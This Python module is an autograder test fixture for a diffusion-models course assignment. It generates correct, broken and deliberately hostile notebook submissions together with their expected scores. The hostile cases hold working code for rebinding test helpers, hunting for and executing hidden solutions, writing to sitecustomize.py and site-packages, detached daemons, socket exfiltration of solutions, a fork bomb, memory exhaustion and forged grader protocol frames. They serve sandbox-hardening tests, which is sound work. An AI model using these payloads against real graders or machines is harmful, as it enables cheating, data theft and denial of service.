"""Submissions of assignment 01 made from the released notebook: correct, broken and hostile.

Each case is a function from a `Maker` (the release, the instructor's answers and what the test set
up around the course: its folder, a listening port, a marker for processes) to what lands in
``submitted/<case>/01_forward_process/``: a notebook, or raw text for a file that is not one.
``EXPECTED`` is the score each case must get out of the notebook's points, and a phrase its feedback
(or the grading report) must contain. Scores are computed from the source notebook's points, so the
cases do not depend on the other cells of the notebook (which change as the assignment is revised).
"""

from __future__ import annotations

import sysconfig
from collections.abc import Callable
from pathlib import Path

import nbformat

from diffusion_internals.course.grading.solutions import solution_code, solved_release, with_answers

ASSIGNMENT = "01_forward_process"
NOTEBOOK = "forward_process.ipynb"
LINEAR = "linear_betas"  # the first task's solution cell; its test cell (test_linear_betas) holds its points
LINEAR_TEST = "test_linear_betas"
SRC = Path(__file__).resolve().parents[2] / "src" / "diffusion_internals"
PURELIB = Path(sysconfig.get_paths()["purelib"])


def meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def points(source: Path) -> tuple[float, float]:
    """(total points of the notebook, points of linear_betas' test) read from the source notebook."""
    cells = nbformat.read(source, as_version=4).cells
    total = sum(float(meta(c).get("points", 0) or 0) for c in cells if meta(c).get("grade"))
    linear = sum(float(meta(c).get("points", 0) or 0) for c in cells if meta(c).get("grade_id") == LINEAR_TEST)
    return total, linear


class Maker:
    """Builds submissions from a release notebook and the instructor's answers.

    `context` holds what the hostile cases need from the test: ``port`` (a listener on the host's
    127.0.0.1) and ``marker`` (a unique string put in the command line of every process they start).
    """

    def __init__(self, release: Path, source: Path, context: dict | None = None) -> None:
        self.release, self.source, self.answers = release, source, solution_code(source)
        self.course = release.resolve().parents[2]  # <course>/exercises/<assignment>/<notebook>
        self.context = {"port": 9, "marker": "hostile-marker", "sleep": "30.0", **(context or {})}

    def solved(self) -> nbformat.NotebookNode:
        return solved_release(self.release, self.source)

    def with_cell(self, grade_id: str, source: str, nb: nbformat.NotebookNode | None = None) -> nbformat.NotebookNode:
        return with_answers(self.solved() if nb is None else nb, {grade_id: source})

    def without(self, grade_id: str) -> nbformat.NotebookNode:
        nb = self.solved()
        nb.cells = [c for c in nb.cells if meta(c).get("grade_id") != grade_id]
        return nb

    def with_extra(
        self, source: str, *, after: str = "setup", nb: nbformat.NotebookNode | None = None
    ) -> nbformat.NotebookNode:
        """nb (default: the solved release) with a student's own code cell after the cell `after`."""
        nb = self.solved() if nb is None else nb
        at = next(i for i, c in enumerate(nb.cells) if meta(c).get("grade_id") == after)
        nb.cells.insert(at + 1, nbformat.v4.new_code_cell(source))
        return nb

    def untouched(self) -> nbformat.NotebookNode:
        return nbformat.read(self.release, as_version=4)


SCALED = """
def scaled_linear_betas(num_steps, beta_start=0.00085, beta_end=0.012):
    return torch.linspace(beta_start**0.5, beta_end**0.5, num_steps, dtype=torch.float64) ** 2
"""
WRONG_LINEAR = "    return torch.linspace(beta_start, 2 * beta_end, num_steps, dtype=torch.float64)"


def _linear(body: str) -> str:
    return f"def linear_betas(num_steps, beta_start=1e-4, beta_end=0.02):\n{body}\n{SCALED}"


def _reordered(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    nb.cells = nb.cells[::-1]
    return nb


# --- hostile cells ----------------------------------------------------------------------------------

REBIND = (
    _linear(WRONG_LINEAR)
    + """
check_close = check_equal = lambda *a, **k: None
import diffusion_internals.course.grading as _grading
_grading.check_close = _grading.check_equal = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
"""
)


def _snoop(m: Maker) -> str:
    course = str(m.course)
    return f"""
import glob, os, time
FOUND, EXECUTED = [], []
patterns = ['../../../solutions/*/*.ipynb', '../solutions/*/*.ipynb', {course!r} + '/solutions/*/*.ipynb',
            {course!r} + '/gradebook.db', {course!r} + '/autograded/*/*/*.ipynb', '/work/*/solutions/*/*.ipynb',
            '/work/*/gradebook.db', '/work/**/*.ipynb']
candidates = [p for pattern in patterns for p in glob.glob(pattern, recursive=True)]
stop = time.monotonic() + 4  # walk / for a few seconds (the sandbox's / is small)
for top in ['/home', '/tmp', '/work', '/root', '/srv', '/mnt', '/opt', '/var', '/']:
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in ('/proc', '/sys', '/dev')]
        candidates += [os.path.join(folder, f) for f in files if f.endswith('.ipynb') or f == 'gradebook.db']
        if time.monotonic() > stop:
            break
for path in sorted(set(candidates)):
    try:
        text = open(path, 'rb').read().decode('utf-8', 'replace')
    except OSError:
        continue
    course_gradebook = path.endswith('gradebook.db') and 'linear_betas' in text  # not nbgrader's own test fixtures
    if course_gradebook or ('linear_betas' in text and ('BEGIN SOLUTION' in text or 'BEGIN ' + 'HIDDEN' in text)):
        FOUND.append(path)
        if path.endswith('.ipynb'):
            import json
            for cell in json.loads(text)['cells']:
                if 'BEGIN SOLUTION' in ''.join(cell['source']):
                    try:
                        exec(''.join(cell['source']), globals())
                        EXECUTED.append(path)
                    except Exception:
                        pass
print('FOUND =', FOUND)
print('EXECUTED =', EXECUTED)
"""


def write_targets(m: Maker) -> dict[str, Path]:
    """Where the `writes_outside` case tries to write (new files carry the marker in their names)."""
    mark = m.context["marker"]
    return {
        "course_new": m.course / f"written_by_{mark}.txt",
        "other_student": m.course / "submitted" / "correct" / ASSIGNMENT / NOTEBOOK,
        "gradebook": m.course / "gradebook.db",
        "site_packages": PURELIB / f"{mark.replace('-', '_')}.py",
        "sitecustomize": PURELIB / "sitecustomize.py",
        "package": SRC / f"{mark.replace('-', '_')}.py",
        "package_init": SRC / "__init__.py",
    }


def _writes(m: Maker) -> str:
    targets = {k: str(v) for k, v in write_targets(m).items()}
    return f"""
import os
WROTE = []
for name, path in {targets!r}.items():
    for mode, data in (('ab', b'\\nimport os  # {m.context["marker"]}\\n'), ('xb', b'hacked')):
        try:
            with open(path, mode) as f:
                f.write(data)
            WROTE.append(name)
        except OSError:
            pass
    try:
        os.replace('/tmp/nothing', path)
    except OSError:
        pass
print('WROTE =', WROTE)
"""


def _detached(m: Maker) -> str:
    mark = m.context["marker"]
    return f"""
import subprocess, sys
subprocess.Popen(['sh', '-c', 'sleep 600 # {mark}'], start_new_session=True)
daemon = '''
import os, time
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
while True:
    with open('/tmp/{mark}.log', 'a') as f:
        f.write('still here\\\\n')
    time.sleep(0.1)
'''
subprocess.Popen([sys.executable, '-c', daemon, '{mark}']).wait()
print('DETACHED')
"""


def _network(m: Maker) -> str:
    port = m.context["port"]
    return f"""
import glob, socket
payload = b''.join(open(p, 'rb').read() for p in glob.glob('../../../solutions/*/*.ipynb')) or b'LEAKED-SOLUTIONS'
NET = []
for host in ('127.0.0.1', 'localhost', socket.gethostname()):
    try:
        with socket.create_connection((host, {port}), timeout=2) as s:
            s.sendall(payload)
        NET.append('sent to ' + host)
    except OSError as error:
        NET.append(type(error).__name__)
print('NET =', NET)
"""


def _fork_bomb(m: Maker) -> str:
    return f"""
import subprocess, time
started, errors, stop = [], set(), time.monotonic() + 8
try:
    for _ in range(2000):
        try:
            started.append(subprocess.Popen(['sleep', '{m.context["sleep"]}']))
        except OSError as error:
            errors.add(type(error).__name__)
        if time.monotonic() > stop:
            break
finally:
    print('STARTED =', len(started))
    print('FORK ERRORS =', sorted(errors))
"""


MEMORY_SPREAD = """
import os, subprocess, sys, time
child = (
    "x = b'x' * (2 * 2**30); open('/tmp/held_%s' % __import__('sys').argv[1], 'w').close(); "
    "import time; time.sleep(20)"
)
children = []
for i in range(6):
    try:
        children.append(subprocess.Popen([sys.executable, '-c', child, str(i)]))
    except OSError as error:
        print('could not start child', i, error)
held = 0
for _ in range(40):  # as many as hold 2 GiB each at once, at most
    time.sleep(0.25)
    held = max(held, sum(p.poll() is None and os.path.exists(f'/tmp/held_{i}') for i, p in enumerate(children)))
for p in children:
    p.kill()
print('HELD AT ONCE =', held)
print('EXIT CODES =', [p.wait() for p in children])
"""

BIG_OUTPUT = """
import os, sys
chunk = 'y' * 2**20
for _ in range(100):
    sys.stdout.write(chunk)
for _ in range(100):
    os.write(1, b'z' * 2**20)
print('BIG OUTPUT DONE')
"""

IGNORES_INTERRUPT = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
"""


def _forged(kind: str) -> str:
    frame = {
        "garbage": "b'\\xff\\xff\\xff\\xff' + b'garbage' * 100",
        "value": "frame({'op': 'value', 'value': 12, 'buffers': []})",
        "done": (
            "frame({'op': 'done', 'outputs': [], 'ok': True, 'buffers': []})"
            " + frame({'op': 'value', 'value': ['dict', [['passed', True]]], 'buffers': []})"
        ),
    }[kind]
    return (
        _linear(WRONG_LINEAR)
        + f"""
import json, os, struct
def frame(header):
    text = json.dumps(header).encode()
    return struct.pack('>I', len(text)) + text
fds = [int(a) for a in open('/proc/self/cmdline', 'rb').read().split(b'\\0') if a.isdigit()]
FORGED = []
for fd in fds:
    try:
        os.write(fd, {frame})
        FORGED.append(fd)
    except OSError:
        pass
print('FORGED =', FORGED)
"""
    )


RUNTIME_REFERENCE = """
_s = getattr(__import__('diffusion' + '_internals.schedules'), 'sche' + 'dules')

def linear_betas(num_steps, beta_start=1e-4, beta_end=0.02):
    return _s.make_betas('linear', num_steps, beta_start=beta_start, beta_end=beta_end)

def scaled_linear_betas(num_steps, beta_start=0.00085, beta_end=0.012):
    return _s.make_betas('scaled_linear', num_steps, beta_start=beta_start, beta_end=beta_end)
"""


CASES: dict[str, Callable[[Maker], nbformat.NotebookNode | str]] = {
    "correct": lambda m: m.solved(),
    "untouched": lambda m: m.untouched(),
    "wrong_answer": lambda m: m.with_cell(LINEAR, _linear(WRONG_LINEAR)),
    "exception": lambda m: m.with_cell(LINEAR, _linear("    raise RuntimeError('my code is not finished')")),
    "infinite_loop": lambda m: m.with_cell(LINEAR, "while True:\n    pass"),
    "memory_hog": lambda m: m.with_cell(
        LINEAR, "hog = torch.ones(12 * 2**30, dtype=torch.uint8)  # 12 GiB\n" + m.answers[LINEAR]
    ),
    "nan_output": lambda m: m.with_cell(
        LINEAR, _linear("    return torch.full((num_steps,), float('nan'), dtype=torch.float64)")
    ),
    "wrong_shape_dtype": lambda m: m.with_cell(
        LINEAR, _linear("    return torch.linspace(beta_start, beta_end, num_steps + 1)")
    ),
    "edited_test_cell": lambda m: m.with_cell(LINEAR_TEST, "print('all tests passed, trust me')"),
    "deleted_test_cell": lambda m: m.without(LINEAR_TEST),
    "deleted_solution_cell": lambda m: m.without(LINEAR),
    "reordered_cells": lambda m: _reordered(m.solved()),
    "invalid_json": lambda m: '{"cells": [ {"cell_type": "code", "source": "oops" ',
    "uses_reference": lambda m: m.with_cell(
        LINEAR,
        (
            "from diffusion_internals import schedules as S\n\n"
            "def linear_betas(num_steps, beta_start=1e-4, beta_end=0.02):\n"
            "    return S.make_betas('linear', num_steps, beta_start=beta_start, beta_end=beta_end)\n\n"
            "def scaled_linear_betas(num_steps, beta_start=0.00085, beta_end=0.012):\n"
            "    return S.make_betas('scaled_linear', num_steps, beta_start=beta_start, beta_end=beta_end)"
        ),
    ),
    "stdout_flood": lambda m: m.with_extra("for _ in range(100_000):\n    print('x' * 200)", after=LINEAR),
    # hostile: each must not raise a score, touch anything outside its sandbox, and be reported
    "rebinds_helpers": lambda m: m.with_cell(LINEAR, REBIND),
    "reads_solutions": lambda m: m.with_extra(_snoop(m), nb=m.untouched()),
    "writes_outside": lambda m: m.with_extra(_writes(m)),
    "detached_process": lambda m: m.with_extra(_detached(m)),
    "network": lambda m: m.with_extra(_network(m)),
    "fork_bomb": lambda m: m.with_extra(_fork_bomb(m), after=LINEAR),
    "memory_spread": lambda m: m.with_extra(MEMORY_SPREAD, after=LINEAR),
    "big_output": lambda m: m.with_extra(BIG_OUTPUT, after=LINEAR),
    "ignores_interrupt": lambda m: m.with_cell(LINEAR, IGNORES_INTERRUPT),
    "forged_garbage": lambda m: m.with_cell(LINEAR, _forged("garbage")),
    "forged_value": lambda m: m.with_cell(LINEAR, _forged("value")),
    "forged_done": lambda m: m.with_cell(LINEAR, _forged("done")),
    "runtime_reference": lambda m: m.with_cell(LINEAR, RUNTIME_REFERENCE),
}
RENAMED = "renamed_notebook"  # a correct notebook saved as my_forward_process.ipynb


def expected(source: Path) -> dict[str, tuple[float, str]]:
    """case -> (its score, a phrase the feedback or the grading report must contain), from source's points."""
    full, linear = points(source)
    lost = full - linear  # everything but linear_betas' points
    return {
        "correct": (full, ""),
        "untouched": (0, "NotImplementedError"),
        "wrong_answer": (lost, "differ from the reference"),
        "exception": (lost, "my code is not finished"),
        "infinite_loop": (lost, "did not finish in"),
        "memory_hog": (lost, "can't allocate memory"),
        "nan_output": (lost, "NaN or infinite"),
        "wrong_shape_dtype": (lost, "expected shape"),
        "edited_test_cell": (full, ""),  # the locked cell is put back from the gradebook
        "deleted_test_cell": (lost, ""),  # the deleted cell's points are lost; nothing else
        "deleted_solution_cell": (lost, "is not defined in your notebook"),
        "reordered_cells": (0, "is not defined in your notebook"),  # tests run before the code they test
        "invalid_json": (0, "not valid JSON"),  # in the grading report
        "uses_reference": (full, "uses the reference package"),  # in the grading report
        "stdout_flood": (full, "characters cut"),
        "rebinds_helpers": (lost, "differ from the reference"),
        "reads_solutions": (0, "FOUND = []"),
        "writes_outside": (full, "WROTE = []"),
        "detached_process": (full, "DETACHED"),
        "network": (full, "NET = ["),
        "fork_bomb": (full, "STARTED ="),
        "memory_spread": (full, "HELD AT ONCE ="),
        "big_output": (full, "characters cut"),
        "ignores_interrupt": (lost, "ignored the interrupt"),  # in the report's "Needs your attention"
        "forged_garbage": (lost, ""),
        "forged_value": (lost, ""),
        "forged_done": (lost, ""),
        "runtime_reference": (full, "uses the reference package"),  # in the grading report
        RENAMED: (full, "graded it as"),  # in the grading report
    }


def write_submissions(maker: Maker, submitted: Path) -> None:
    """Write every case (and the renamed notebook) under submitted/<case>/01_forward_process/."""
    for case, make in {**CASES, RENAMED: lambda m: m.solved()}.items():
        folder = submitted / case / ASSIGNMENT
        folder.mkdir(parents=True, exist_ok=True)
        content = make(maker)
        name = "my_forward_process.ipynb" if case == RENAMED else NOTEBOOK
        if isinstance(content, str):
            (folder / name).write_text(content)
        else:
            nbformat.write(content, folder / name)


__all__ = [
    "ASSIGNMENT",
    "NOTEBOOK",
    "LINEAR",
    "LINEAR_TEST",
    "CASES",
    "RENAMED",
    "Maker",
    "expected",
    "points",
    "write_submissions",
    "write_targets",
]
